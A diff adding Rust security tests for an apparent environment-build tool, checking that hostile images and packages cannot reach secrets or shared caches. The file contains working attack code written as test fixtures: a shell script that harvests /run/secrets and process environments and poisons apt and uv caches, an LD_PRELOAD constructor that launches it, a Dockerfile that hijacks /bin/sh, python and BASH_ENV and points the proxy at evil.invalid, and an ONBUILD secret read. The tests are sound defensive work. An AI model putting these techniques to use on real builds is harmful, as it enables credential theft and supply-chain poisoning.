@@ -1,0 +1,124 @@
+//! Images and packages made hostile: each part of them that a build runs tries to take secrets and to write caches.
+
+use std::process::Command;
+
+use super::{Index, PASSWORD, block_on, build, remove_image, says, shared_cache};
+use crate::sandbox::Sandbox;
+
+/// Copies every secret that it sees and writes into every cache; leaves a mark, so that a test knows it was run.
+const STEAL: &str = "#!/bin/dash
+[ -n \"$STEALS\" ] && exit 0
+export STEALS=1 LD_PRELOAD= BASH_ENV=
+echo \"$1\" >> /loot/ran
+for secret in /run/secrets/*; do
+    [ -e $secret ] && echo ${secret##*/} >> /loot/seen
+    [ ${secret##*/} = envctl-ca ] || cat $secret /proc/self/environ >> /loot/secrets 2>/dev/null
+done
+[ \"$1\" = preload ] || grep -rsl PASSWORD /run /var/cache/envctl-uv /var/tmp /tmp >> /loot/found
+for cache in /var/cache/envctl-uv /var/cache/apt /var/lib/apt/lists; do
+    [ -d $cache ] && echo poison > $cache/poison
+done
+exit 0
+";
+
+const PRELOAD: &str = "#include <stdlib.h>
+#include <unistd.h>
+#include <sys/wait.h>
+__attribute__((constructor)) static void steal(void) {
+    if (getenv(\"STEALS\")) return;
+    if (fork() == 0) { unsetenv(\"LD_PRELOAD\"); execl(\"/steal\", \"/steal\", \"preload\", (char *)0); _exit(1); }
+    wait(0);
+}
+";
+
+const HOSTILE: &str = "FROM BASE
+COPY steal preload.so /
+RUN mkdir -m 0777 /loot && mkdir -p /usr/local/bin \\
+    && printf '#!/bin/dash\\n/steal sh\\nexec /bin/dash \"$@\"\\n' > /steal-sh \\
+    && printf '#!/bin/dash\\n/steal python\\nexec /usr/bin/python3.11 \"$@\"\\n' > /usr/local/bin/python3.11 \\
+    && printf '/steal bash\\n' > /steal-bash \\
+    && chmod 0755 /steal-sh /usr/local/bin/python3.11 \\
+    && cp /bin/bash /bin/bash.real && rm /bin/sh && ln -s /steal-sh /bin/sh
+ENV BASH_ENV=/steal-bash LD_PRELOAD=/preload.so UV_INDEX_URL=http://evil.invalid/simple UV_CONFIG_FILE=/evil.toml \\
+    HTTPS_PROXY=http://evil.invalid:3128 SSL_CERT_FILE=/evil.pem
+SHELL [\"/bin/bash\", \"-c\"]
+";
+
+fn preload() -> Vec<u8> {
+    let directory = tempfile::tempdir().unwrap();
+    let (source, library) = (directory.path().join("preload.c"), directory.path().join("preload.so"));
+    std::fs::write(&source, PRELOAD).unwrap();
+    let compiled = Command::new("cc").args(["-shared", "-fPIC", "-o"]).arg(&library).arg(&source).status();
+    assert!(compiled.unwrap().success());
+    std::fs::read(library).unwrap()
+}
+
+/// A sandbox of a person with a password for an index of their own.
+fn sandbox(index: &Index, manifest: &str) -> Sandbox {
+    let sandbox = Sandbox::new("");
+    std::fs::write(sandbox.file("envctl.toml"), manifest).unwrap();
+    std::fs::create_dir_all(sandbox.home().join(".config/envctl")).unwrap();
+    std::fs::write(sandbox.home().join(".config/envctl/config.toml"), index.configuration()).unwrap();
+    sandbox
+}
+
+fn manifest(system: &str, packages: &str) -> String {
+    format!(
+        "name = \"attack\"\n[frameworks]\nonnxruntime = \">=1.18\"\n[python]\nversion = \"3.11\"\npackages = [{packages}]\n\
+         [system]\n{system}\n[gpu]\ndevices = \"none\"\n[ssh]\nenabled = false\n"
+    )
+}
+
+fn built(sandbox: &Sandbox) -> String {
+    let built = sandbox.json(&["build", "--bootstrap", "--allow", "image"]);
+    assert_eq!(built["ok"], true, "{built:#}");
+    built["image"].as_str().unwrap().to_owned()
+}
+
+#[test]
+fn a_hostile_image_finds_no_secret_and_no_cache_of_others() {
+    let index = Index::start();
+    let tag = format!("envctl-attack/hostile:{}", std::process::id());
+    let steal = STEAL.replace("PASSWORD", PASSWORD);
+    block_on(build(&tag, HOSTILE, &[("steal", steal.as_bytes()), ("preload.so", &preload())])).unwrap();
+    let sandbox = sandbox(&index, &manifest(&format!("image = \"{tag}\""), "\"labtool\""));
+    let image = built(&sandbox);
+    let say = |script: &str| says(&image, "/bin/bash.real", script);
+    for way in ["preload", "sh", "python", "bash"] {
+        assert!(say("cat /loot/ran").contains(way), "{way} was not run");
+    }
+    let seen = say("sort -u /loot/seen");
+    assert!(["", "envctl-ca"].contains(&seen.as_str()), "{seen}");
+    assert_eq!(say(&format!("cat /loot/found; grep -rl {PASSWORD} /loot /opt /var /tmp /etc /root || true")), "");
+    assert_eq!(say("/opt/envctl/venv/bin/python -c 'import labtool, onnxruntime; print(labtool.value)'"), "1");
+    assert_eq!(shared_cache(&format!("{tag}-look")), "");
+    remove_image(&image);
+    remove_image(&tag);
+}
+
+#[test]
+fn an_image_whose_onbuild_mounts_a_secret_is_not_built_on() {
+    let tag = format!("envctl-attack/onbuild:{}", std::process::id());
+    let text = "FROM BASE\nONBUILD RUN --mount=type=secret,id=envctl-index cat /run/secrets/envctl-index > /loot\n";
+    block_on(build(&tag, text, &[])).unwrap();
+    let index = Index::start();
+    let refused = sandbox(&index, &manifest(&format!("image = \"{tag}\""), "")).json(&[
+        "build",
+        "--bootstrap",
+        "--allow",
+        "image",
+    ]);
+    assert_eq!(refused["error"]["kind"], "base-triggers", "{refused:#}");
+    remove_image(&tag);
+}
+
+/// A wheel brings programs with the names of those that the build's steps call, and code that every Python start runs.
+#[test]
+fn a_hostile_package_finds_no_secret_and_no_cache_of_others() {
+    let index = Index::start();
+    let sandbox = sandbox(&index, &manifest("base = \"debian:12\"", "\"evil\", \"labtool\""));
+    let image = built(&sandbox);
+    assert_eq!(says(&image, "/bin/sh", "ls /loot 2>/dev/null || true"), "");
+    assert_eq!(shared_cache(&format!("envctl-attack/look:{}", std::process::id())), "");
+    remove_image(&image);
+}
